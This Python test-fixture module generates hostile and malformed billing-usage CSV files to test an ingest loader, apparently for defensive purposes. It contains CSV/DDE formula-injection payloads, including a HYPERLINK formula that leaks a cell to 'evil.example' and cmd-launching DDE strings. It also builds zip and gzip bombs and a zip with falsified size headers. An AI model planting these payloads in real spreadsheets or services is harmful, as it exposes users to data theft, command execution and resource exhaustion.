"""Hostile and broken usage files, built in code so every test can compute what it expects.

Cells that spreadsheets run as formulas (OWASP "CSV injection"), zip and gzip bombs, nested and
self-containing archives, deeply nested and enormous tags, ragged rows, NUL bytes and invalid
UTF-8. The layout is Microsoft's documented MCA version 2 header (``lib.ingest.dialects``).
"""

from __future__ import annotations

import gzip
import io
import zipfile

from lib.ingest import dialects
from tests.fixtures.generate import to_csv

HEADER = dialects.MCA_V2_HEADER
# Payloads from OWASP's CSV injection page and the usual DDE variants; each starts with a trigger.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
)


def row(day: str, cost: str, **cells: str) -> dict[str, str]:
    """One MCA row on ``day`` (MM/DD/YYYY) costing ``cost`` EUR, with any other cells given."""
    base = {
        "date": day,
        "billingPeriodStartDate": "11/01/2026",
        "billingPeriodEndDate": "11/30/2026",
        "costInBillingCurrency": cost,
        "billingCurrency": "EUR",
        "meterCategory": "Storage",
        "subscriptionName": "Contoso",
        "SubscriptionId": "a1f3c5e7-1b2d-4c6e-8f90-1a2b3c4d5e01",
        "resourceGroupName": "rg-data",
        "chargeType": "Usage",
        "quantity": "1",
    }
    return base | cells


def formula_file() -> bytes:
    """Resource names, groups, meters and tags that are spreadsheet formulas, beside plain negative amounts."""
    rows = [
        row(
            "11/02/2026",
            "10.5",
            ResourceId=f"/subscriptions/x/resourceGroups/rg/providers/p/{i}",
            resourceGroupName=formula,
            meterName=formula,
            additionalInfo=formula,
            tags=f'{{"owner": "{formula.replace(chr(34), "")}", "cc": "@SUM(A1)"}}',
        )
        for i, formula in enumerate(FORMULAS)
    ]
    rows.append(row("11/03/2026", "-12.5", meterName="-refund", effectivePrice="-0.25", quantity="-50", chargeType="Refund"))
    rows.append(row("11/04/2026", "1E-05", meterName="tiny", effectivePrice="+2", unitPrice="1.5e-3"))
    return to_csv(HEADER, rows)


def plain_file(cost: str = "1.25", days: int = 3) -> bytes:
    """A small valid file: one row a day from 11/01/2026, each costing ``cost``."""
    return to_csv(HEADER, [row(f"11/{d + 1:02d}/2026", cost) for d in range(days)])


def zip_of(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip holding ``members``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_bomb(unpacked_mb: int) -> bytes:
    """One CSV member of ``unpacked_mb`` megabytes of a repeated row: a few hundred kilobytes zipped."""
    header = ",".join(HEADER).encode() + b"\n"
    line = b"11/01/2026," + b"0" * 1000 + b"\n"
    body = header + line * (unpacked_mb * 1024 * 1024 // len(line))
    return zip_of({"usage.csv": body})


def gzip_bomb(unpacked_mb: int) -> bytes:
    """A gzip stream of ``unpacked_mb`` megabytes of zeros."""
    return gzip.compress(b"0" * (unpacked_mb * 1024 * 1024), compresslevel=9)


def nested_zip(levels: int) -> bytes:
    """A valid CSV inside ``levels`` zips, each member named like a CSV (so only its bytes say zip)."""
    data = plain_file()
    for _ in range(levels):
        data = zip_of({"usage.csv": data})
    return data


def many_members(count: int) -> bytes:
    """A zip of ``count`` tiny CSV members (stored, so the archive itself stays small)."""
    return zip_of({f"part_{i}.csv": b"x" for i in range(count)}, compression=zipfile.ZIP_STORED)


def lying_zip(unpacked_mb: int) -> bytes:
    """A zip bomb whose central directory claims each member is 10 bytes."""
    data = bytearray(zip_bomb(unpacked_mb))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.infolist()[0]
        real = info.file_size
    # Patch the declared uncompressed size in the local header and the central directory.
    old = real.to_bytes(4, "little")
    assert data.count(old) >= 1
    return bytes(data.replace(old, (10).to_bytes(4, "little")))


def deep_tags(depth: int) -> bytes:
    """A valid file whose tags cell nests ``depth`` arrays deep."""
    tags = '{"a": ' + "[" * depth + "]" * depth + "}"
    return to_csv(HEADER, [row("11/02/2026", "2.5", tags=tags), row("11/03/2026", "1.5")])


def huge_tags(size: int) -> bytes:
    """A valid file with one tags cell of ``size`` characters."""
    return to_csv(HEADER, [row("11/02/2026", "2.5", tags='{"k": "' + "v" * size + '"}'), row("11/03/2026", "1.5")])


def ragged_file() -> bytes:
    """Rows with more and fewer cells than the header."""
    good = plain_file(days=2).decode()
    extra = "11/05/2026," + ",".join(["x"] * (len(HEADER) + 5)) + "\n"
    short = "11/06/2026,1,2\n"
    return (good + extra + short).encode()


def nul_file() -> bytes:
    """A file with NUL bytes after its first rows (past the header the loader sniffs)."""
    good = plain_file(days=2)
    return good + b"11/05/2026,\x00\x00\x00,EUR\n" * 3


def invalid_utf8_file() -> bytes:
    """A file whose cells hold bytes that are not UTF-8 (and not a whole Windows-1252 file either)."""
    return plain_file(days=2) + b"11/05/2026,\xff\xfe\xc3\x28,\x81\x8d\x8f\x90\x9d\n"
